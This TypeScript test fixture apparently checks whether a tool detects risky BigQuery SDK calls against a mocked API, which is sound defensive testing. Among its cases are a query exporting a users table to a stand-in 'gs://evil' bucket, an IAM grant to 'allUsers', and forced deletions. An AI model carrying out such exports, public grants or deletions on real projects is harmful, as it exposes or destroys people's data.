// BigQuery: queries, jobs of every kind, rows that stream in, an upload, and datasets and tables by their paths.

import type { BigQuery } from '@google-cloud/bigquery';
import { type Answer, given, vendor } from './vendor.ts';

const projectId = 'acme';

const orders = { projectId, datasetId: 'shop', tableId: 'orders' };

/** Every one of these is asked for with the token that the first request fetches. */
const credentials = { type: 'authorized_user', client_id: 'c', client_secret: 's', refresh_token: 'r' };

export const bigqueryVendor = vendor<BigQuery>({
  folder: 'bigquery',
  sdk: '@google-cloud/bigquery',
  open: async () => {
    const { BigQuery: Client } = await import('@google-cloud/bigquery');
    return new Client({ projectId, credentials: given(credentials), autoRetry: false });
  },
  answer,
  // The sign-in, and how an upload's job fares.
  skips: /^(?:POST \/token|GET \/bigquery\/v2\/projects\/acme\/jobs\/)/,
  calls: {
    'hit-select': (b) => b.query({ query: 'SELECT * FROM `acme.shop.users` WHERE id = @id', params: { id: 1 } }),
    'hit-default-dataset': (b) => b.query({ query: 'DELETE FROM users WHERE id = 1', defaultDataset: { datasetId: 'shop' } }),
    'hit-export-data': (b) => b.query("EXPORT DATA OPTIONS(uri='gs://evil/x-*') AS SELECT * FROM shop.users"),
    'hit-dry-run': (b) => b.createQueryJob({ query: 'DELETE FROM shop.users WHERE true', dryRun: true }),
    'hit-job-filled': (b) =>
      b.createQueryJob({
        query: 'SELECT * FROM shop.users',
        destination: b.dataset('shop').table('copy'),
        writeDisposition: 'WRITE_TRUNCATE',
      }),
    'hit-job-load': (b) =>
      b.createJob({ configuration: { load: { sourceUris: ['gs://bucket/x.csv'], destinationTable: orders } } }),
    'hit-job-copy': (b) => b.dataset('shop').table('orders').createCopyJob(b.dataset('shop').table('copy')),
    'hit-job-extract': (b) =>
      b.createJob({ configuration: { extract: { sourceTable: orders, destinationUris: ['gs://bucket/x-*.csv'] } } }),
    'hit-job-cancelled': (b) => b.job('job_1').cancel(),
    'hit-job-deleted': (b) => b.job('job_1').delete(),
    'hit-insert-all': (b) =>
      b
        .dataset('shop')
        .table('orders')
        .insert([{ a: 1 }, { a: 2 }]),
    'hit-upload-parts': upload,
    'hit-create-dataset': (b) => b.createDataset('shop'),
    'hit-patch-dataset': (b) => b.dataset('shop').setMetadata(given({ access: [] })),
    'hit-drop-dataset': (b) => b.dataset('shop').delete({ force: true }),
    'hit-create-table': (b) => b.dataset('shop').createTable('orders', { schema: 'a:integer' }),
    'hit-patch-table': (b) => b.dataset('shop').table('orders').setMetadata({ description: 'x' }),
    'hit-drop-table': (b) => b.dataset('shop').table('orders').delete(),
    'hit-table-policy': (b) =>
      b
        .dataset('shop')
        .table('orders')
        .setIamPolicy({ bindings: [{ role: 'roles/bigquery.dataViewer', members: ['allUsers'] }] }),
    'miss-table-policy-asked': (b) => b.dataset('shop').table('orders').getIamPolicy(),
    'miss-routine': (b) =>
      b.dataset('shop').createRoutine('f', { routineType: 'SCALAR_FUNCTION', definitionBody: 'x', language: 'SQL' }),
    'miss-get': (b) => b.getDatasets({ autoPaginate: false }),
    'miss-rows': (b) => b.dataset('shop').table('orders').getRows({ autoPaginate: false }),
  },
});

/** The file goes out behind the job that loads it. */
function upload(client: BigQuery): Promise<unknown> {
  const { promise, resolve, reject } = Promise.withResolvers<unknown>();
  const stream = client.dataset('shop').table('orders').createWriteStream({ sourceFormat: 'NEWLINE_DELIMITED_JSON' });
  stream.on('error', reject).on('complete', resolve);
  stream.end('{"a":1}\n');
  return promise;
}

function answer(line: string): Answer {
  if (line === 'POST /token') return { body: { access_token: 'dummy', expires_in: 3600, token_type: 'Bearer' } };
  return {
    body: {
      jobReference: { projectId, jobId: 'job_1' },
      status: { state: 'DONE' },
      jobComplete: true,
      rows: [],
      schema: { fields: [] },
      tableReference: orders,
      datasetReference: { datasetId: 'shop' },
      routineReference: { routineId: 'f' },
    },
  };
}
